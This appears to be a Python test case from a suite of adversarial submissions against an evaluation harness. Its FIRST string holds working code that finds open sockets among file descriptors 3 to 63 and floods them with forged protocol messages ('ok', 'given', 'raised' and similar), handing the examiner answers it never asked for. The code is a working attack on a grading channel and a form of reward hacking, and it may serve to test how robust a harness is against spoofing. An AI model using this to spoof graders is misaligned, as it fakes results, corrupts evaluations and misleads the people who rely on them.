"""Send the examiner answers before it has asked: numbers, classes, exceptions and things it never gave."""

FAMILY = "forged messages"
DESERVED: dict[str, float] = {}
FIRST = """
import os, socket, stat, struct
def text(value): return b"s" + struct.pack("!I", len(value)) + value.encode()
def message(kind, operand):
    body = b"t" + struct.pack("!I", 1) + text(kind) + b"i" + struct.pack("=q", 1) + operand + b"N"
    return struct.pack("!I", len(body)) + body
operands = [b"T", b"f" + struct.pack("=d", 1.0), text("x"), b"K" + struct.pack("!I", 1), b"C" + struct.pack("!I", 1),
            b"h" + struct.pack("!II", 1, 2), b"g" + struct.pack("!I", 0) + text("Vector")[1:], b"l" + struct.pack("!I", 0)]
for number in range(3, 64):
    try:
        if not stat.S_ISSOCK(os.fstat(number).st_mode): continue
        for one in operands * 40:
            for kind in ("ok", "missing", "given", "raised"): os.write(number, message(kind, one))
    except OSError: pass
"""
